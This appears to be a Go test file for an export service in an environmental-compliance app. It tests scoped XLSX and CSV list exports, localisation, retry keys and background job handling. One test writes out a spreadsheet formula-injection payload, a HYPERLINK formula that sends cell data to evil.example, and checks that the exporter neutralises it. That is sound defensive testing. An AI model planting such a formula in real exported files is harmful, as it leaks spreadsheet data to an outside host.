@@ -1,0 +1,374 @@
+package exchange_test
+
+import (
+	"context"
+	"encoding/csv"
+	"errors"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"entgo.io/ent/privacy"
+	"github.com/xuri/excelize/v2"
+
+	"greencheck/api/apperr"
+	"greencheck/api/db/dbtest"
+	"greencheck/api/demo"
+	"greencheck/api/events"
+	"greencheck/api/exchange"
+	"greencheck/api/notify"
+	"greencheck/api/partner"
+	"greencheck/api/report"
+	"greencheck/api/uscc"
+	"greencheck/ent"
+	"greencheck/ent/district"
+	"greencheck/ent/enterprise"
+	"greencheck/ent/exportjob"
+	"greencheck/ent/notification"
+	"greencheck/ent/user"
+)
+
+var sys = privacy.DecisionContext(context.Background(), privacy.Allow)
+
+func newService(t testing.TB, c *ent.Client) (*exchange.Service, events.Bus) {
+	t.Helper()
+	bus := events.NewLocal()
+	s, err := exchange.New(c, notify.New(c, bus), bus, report.New(c), partner.New(c), t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(s.Wait) // before the database closes
+	return s, bus
+}
+
+// sheetRows opens an export's file as its owner and returns its rows.
+func sheetRows(t *testing.T, s *exchange.Service, ctx context.Context, job *ent.ExportJob) [][]string {
+	t.Helper()
+	d, err := s.Open(ctx, job.ID)
+	if err != nil {
+		t.Fatalf("open export %d: %v", job.ID, err)
+	}
+	if job.Format == exportjob.FormatCSV {
+		raw, err := os.ReadFile(d.Path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.HasPrefix(string(raw), "\ufeff") {
+			t.Error("the CSV has no byte-order mark")
+		}
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\ufeff"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return rows
+	}
+	book, err := excelize.OpenFile(d.Path)
+	if err != nil {
+		t.Fatalf("not a workbook: %v", err)
+	}
+	defer book.Close()
+	rows, err := book.GetRows(book.GetSheetName(0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+func col(header []string, name string) int {
+	for i, h := range header {
+		if h == name {
+			return i
+		}
+	}
+	return -1
+}
+
+// TestExportLists: a list exports with its filters in the viewer's scope —
+// furong's findings are 芙蓉区's, as the list shows them — with Chinese
+// headers and dictionary labels (English when asked), as XLSX and CSV; a
+// cell that would be a formula is text; a retried request (client key)
+// starts nothing new; one export names exactly one list; nobody else
+// reads an export; a report exports its rows.
+func TestExportLists(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, dia string) {
+		d := dbtest.Open(t, dia)
+		c := d.Client
+		if err := demo.Load(context.Background(), c, time.Now()); err != nil {
+			t.Fatal(err)
+		}
+		s, _ := newService(t, c)
+		s.SyncRows = 100_000 // every export here within the request (the demo city has 10,434 notices)
+		admin, furong := dbtest.As(c, "admin"), dbtest.As(c, "furong")
+		fr := c.District.Query().Where(district.NameZh("芙蓉区")).OnlyX(sys)
+
+		// The enterprises of 芙蓉区, by name, as the list filters them.
+		where := &ent.EnterpriseWhereInput{DistrictID: &fr.ID}
+		job, err := s.ExportList(admin, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: where,
+			OrderBy: &ent.EnterpriseOrder{Field: ent.EnterpriseOrderFieldName, Direction: "ASC"}}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).CountX(admin)
+		if job.Status != exportjob.StatusDONE || job.Rows != want || job.Total != want || job.Progress != 100 || exchange.URL(job) == "" {
+			t.Fatalf("export: %+v, want %d rows DONE", job, want)
+		}
+		rows := sheetRows(t, s, admin, job)
+		if len(rows) != want+1 || rows[0][0] != "企业名称" || rows[0][1] != "统一社会信用代码" {
+			t.Fatalf("%d rows, header %v", len(rows), rows[0])
+		}
+		tier, dist := col(rows[0], "排污许可管理类别"), col(rows[0], "区县")
+		labels := map[string]bool{"重点管理": true, "简化管理": true, "登记管理": true, "无需许可": true}
+		for _, r := range rows[1:] {
+			if r[dist] != "芙蓉区" || !labels[r[tier]] {
+				t.Fatalf("row %v: district or tier label", r)
+			}
+		}
+		for i := 2; i < len(rows); i++ {
+			if rows[i-1][0] > rows[i][0] && !strings.HasPrefix(rows[i][0], rows[i-1][0]) {
+				// ordering is the database's collation; just check it is the list's order
+				names := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).Order(ent.Asc(enterprise.FieldName), ent.Asc(enterprise.FieldID)).
+					Select(enterprise.FieldName).StringsX(admin)
+				if names[i-1] != rows[i][0] {
+					t.Fatalf("row %d is %q, the list's is %q", i, rows[i][0], names[i-1])
+				}
+			}
+		}
+
+		// furong's findings are 芙蓉区's only, as many as furong's list counts.
+		fj, err := s.ExportList(furong, exchange.ListInput{Format: exportjob.FormatCSV, Findings: &exchange.FindingsInput{}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if n, all := c.Finding.Query().CountX(furong), c.Finding.Query().CountX(admin); fj.Rows != n || n == 0 || n >= all {
+			t.Fatalf("furong's ledger has %d rows; furong reads %d of %d", fj.Rows, n, all)
+		}
+		frows := sheetRows(t, s, furong, fj)
+		dc, sc := col(frows[0], "区县"), col(frows[0], "状态")
+		statuses := map[string]bool{"发现": true, "交办": true, "整改中": true, "待核查": true, "核查通过": true, "退回": true, "已销号": true, "无效": true}
+		for _, r := range frows[1:] {
+			if r[dc] != "芙蓉区" || !statuses[r[sc]] {
+				t.Fatalf("furong's ledger row %v", r)
+			}
+		}
+		// Not anyone else's to read or follow.
+		if _, err := s.Open(furong, job.ID); !ent.IsNotFound(err) {
+			t.Errorf("furong opened the city's export: %v", err)
+		}
+		if _, err := s.Subscribe(furong, job.ID); !ent.IsNotFound(err) {
+			t.Errorf("furong followed the city's export: %v", err)
+		}
+		if n := c.ExportJob.Query().CountX(furong); n != 1 {
+			t.Errorf("furong lists %d exports, has 1", n)
+		}
+
+		// A name a spreadsheet would compute stays text: XLSX as a string
+		// cell (no formula), CSV with an apostrophe.
+		evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
+		e := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).FirstX(sys)
+		c.Enterprise.UpdateOne(e).SetName(evil).ExecX(sys)
+		code := "91430102MA4PX0001"
+		check, _ := uscc.CheckChar(code)
+		c.Enterprise.Create().SetName("@SUM(1+1)").SetCreditCode(code + string(check)).SetDistrictID(fr.ID).
+			SetIndustryCode(e.IndustryCode).SetIndustryName(e.IndustryName).SetPermitTier(e.PermitTier).ExecX(sys)
+		one := &ent.EnterpriseWhereInput{Or: []*ent.EnterpriseWhereInput{{ID: &e.ID}, {NameHasPrefix: ptr("@SUM")}}}
+		x, err := s.ExportList(admin, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: one}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		dl, _ := s.Open(admin, x.ID)
+		book, err := excelize.OpenFile(dl.Path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, cell := range []string{"A2", "A3"} {
+			v, _ := book.GetCellValue(book.GetSheetName(0), cell)
+			f, _ := book.GetCellFormula(book.GetSheetName(0), cell)
+			if f != "" || (v != evil && v != "@SUM(1+1)") {
+				t.Errorf("XLSX %s: value %q formula %q", cell, v, f)
+			}
+		}
+		book.Close()
+		cj, err := s.ExportList(admin, exchange.ListInput{Format: exportjob.FormatCSV, Enterprises: &exchange.EnterprisesInput{Where: one}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range sheetRows(t, s, admin, cj)[1:] {
+			if r[0] != "'"+evil && r[0] != "'@SUM(1+1)" {
+				t.Errorf("CSV cell %q is not neutralized", r[0])
+			}
+		}
+
+		// English headers and labels when the caller reads English.
+		en := apperr.WithLang(admin, "en")
+		ej, err := s.ExportList(en, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: where}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		erows := sheetRows(t, s, admin, ej)
+		if erows[0][0] != "Name" || erows[1][col(erows[0], "District")] != fr.NameEn || !strings.HasPrefix(ej.FileName, "Enterprises-") {
+			t.Errorf("English export: %v / %v, %s", erows[0], erows[1], ej.FileName)
+		}
+
+		// A retried request returns the export it started; the same key
+		// for another list is refused.
+		key := "phone-retry-1"
+		a, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Users: &exchange.UsersInput{}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Users: &exchange.UsersInput{}})
+		if err != nil || b.ID != a.ID {
+			t.Errorf("retry started another export: %v %v", b, err)
+		}
+		if _, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Visits: &exchange.VisitsInput{}}); apperr.CodeOf(err) != apperr.Conflict {
+			t.Errorf("key reused for another list: %v", err)
+		}
+		// Exactly one list.
+		for _, in := range []exchange.ListInput{{}, {Users: &exchange.UsersInput{}, Visits: &exchange.VisitsInput{}}} {
+			_, err := s.ExportList(admin, in)
+			if e, ok := apperr.As(err); !ok || e.Code != apperr.BadUserInput || e.Key != "export.one_list" {
+				t.Errorf("lists %+v: %v", in, err)
+			}
+		}
+		// Every list exports, its rows those the viewer reads.
+		for name, in := range map[string]exchange.ListInput{
+			"tasks": {Tasks: &exchange.TasksInput{}}, "warnings": {Warnings: &exchange.WarningsInput{}},
+			"notices": {Notices: &exchange.NoticesInput{}}, "questions": {Questions: &exchange.QuestionsInput{}},
+			"trainings": {Trainings: &exchange.TrainingsInput{}}, "visits": {Visits: &exchange.VisitsInput{}},
+			"apiKeys": {APIKeys: &exchange.APIKeysInput{}},
+		} {
+			j, err := s.ExportList(admin, in)
+			if err != nil || j.Status != exportjob.StatusDONE {
+				t.Fatalf("%s: %+v %v", name, j, err)
+			}
+			if rows := sheetRows(t, s, admin, j); len(rows) != j.Rows+1 || len(rows[0]) < 5 {
+				t.Errorf("%s: %d rows for %d, header %v", name, len(rows), j.Rows, rows[0])
+			}
+		}
+		if j, _ := s.ExportList(admin, exchange.ListInput{Notices: &exchange.NoticesInput{}}); j.Rows != c.WarningNotice.Query().CountX(admin) || j.Rows == 0 {
+			t.Errorf("notices: %d rows", j.Rows)
+		}
+		// The keys are the city's: an enterprise is refused as its list is.
+		if qj, err := s.ExportList(dbtest.As(c, "qiye"), exchange.ListInput{APIKeys: &exchange.APIKeysInput{}}); !errors.Is(err, privacy.Deny) {
+			t.Errorf("qiye exported %v keys: %v", qj, err)
+		}
+
+		// A report's rows, dimensions labelled.
+		rj, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS", "RECTIFICATION_RATE"}, Dimensions: []string{"SEVERITY"}}, exportjob.FormatXLSX, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rrows := sheetRows(t, s, furong, rj)
+		if len(rrows) < 2 || rrows[0][0] != "严重程度" || rj.List != exportjob.ListREPORT {
+			t.Errorf("report export: %v", rrows)
+		}
+	})
+}
+
+// TestExportInTheBackground: beyond SyncRows an export runs after the
+// request, its progress published and recorded, its owner notified with a
+// link; a user has one running export at a time; the sweep removes
+// expired exports with their files and fails those that stopped.
+func TestExportInTheBackground(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, dia string) {
+		d := dbtest.Open(t, dia)
+		c := d.Client
+		if err := demo.Load(context.Background(), c, time.Now()); err != nil {
+			t.Fatal(err)
+		}
+		s, bus := newService(t, c)
+		s.SyncRows, s.PageSize = 20, 25
+		admin, furong := dbtest.As(c, "admin"), dbtest.As(c, "furong")
+		total := c.Finding.Query().CountX(admin)
+		if total < 200 {
+			t.Fatalf("the demo city has %d findings", total)
+		}
+		// Watch every export's topic: the job's id is known only after.
+		ctx, cancel := context.WithCancel(admin)
+		defer cancel()
+		job, err := s.ExportList(admin, exchange.ListInput{Findings: &exchange.FindingsInput{}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if job.Status != exportjob.StatusRUNNING || job.Total != total {
+			t.Fatalf("a large export came back %+v", job)
+		}
+		updates, err := s.Subscribe(ctx, job.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_ = bus
+		var seen []int
+		var last *ent.ExportJob
+		timeout := time.After(2 * time.Minute)
+	follow:
+		for {
+			select {
+			case j, ok := <-updates:
+				if !ok {
+					break follow
+				}
+				seen, last = append(seen, j.Progress), j
+			case <-timeout:
+				t.Fatal("the export did not end")
+			}
+		}
+		s.Wait()
+		if last == nil || last.Status != exportjob.StatusDONE || last.Rows != total || last.Progress != 100 {
+			t.Fatalf("ended as %+v", last)
+		}
+		for i := 1; i < len(seen); i++ {
+			if seen[i] < seen[i-1] {
+				t.Errorf("progress went back: %v", seen)
+			}
+		}
+		if len(seen) < 3 {
+			t.Errorf("progress seen: %v", seen)
+		}
+		if rows := sheetRows(t, s, admin, last); len(rows) != total+1 {
+			t.Errorf("%d rows in the file, %d findings", len(rows)-1, total)
+		}
+		n, err := c.Notification.Query().Where(notification.Kind("EXPORT_DONE"), notification.Link("/exports")).Count(admin)
+		if err != nil || n != 1 {
+			t.Errorf("notifications of the export: %d %v", n, err)
+		}
+
+		// One running export per user.
+		fu := c.User.Query().Where(user.Username("furong")).OnlyX(sys)
+		running := c.ExportJob.Create().SetUserID(fu.ID).SetList(exportjob.ListFINDINGS).SetExpiresAt(time.Now().Add(time.Hour)).SaveX(sys)
+		_, err = s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{}})
+		if e, ok := apperr.As(err); !ok || e.Code != apperr.Conflict || e.Key != "export.running" {
+			t.Errorf("a second running export: %v", err)
+		}
+		if _, err := s.Open(furong, running.ID); err != exchange.ErrNotReady {
+			t.Errorf("a running export opened: %v", err)
+		}
+
+		// The sweep: a running export that stopped progressing fails; an
+		// expired one goes with its file.
+		c.ExportJob.UpdateOne(running).SetUpdatedAt(time.Now().Add(-exchange.StaleAfter - time.Minute)).ExecX(sys)
+		dl, _ := s.Open(admin, last.ID)
+		c.ExportJob.UpdateOneID(last.ID).SetExpiresAt(time.Now().Add(-time.Second)).ExecX(sys)
+		if _, err := s.Open(admin, last.ID); err != exchange.ErrGone {
+			t.Errorf("an expired export opened: %v", err)
+		}
+		removed, err := s.Sweep(context.Background())
+		if err != nil || removed != 1 {
+			t.Fatalf("sweep removed %d: %v", removed, err)
+		}
+		if _, err := os.Stat(dl.Path); !os.IsNotExist(err) {
+			t.Errorf("the expired file stays: %v", err)
+		}
+		if j := c.ExportJob.GetX(sys, running.ID); j.Status != exportjob.StatusFAILED || exchange.Failure(j, "zh") == "" {
+			t.Errorf("the stopped export is %s %q", j.Status, j.Failure)
+		}
+		// furong may export again now.
+		if _, err := s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{}}); err != nil {
+			t.Errorf("after the sweep: %v", err)
+		}
+		s.Wait()
+	})
+}
+
+func ptr[T any](v T) *T { return &v }
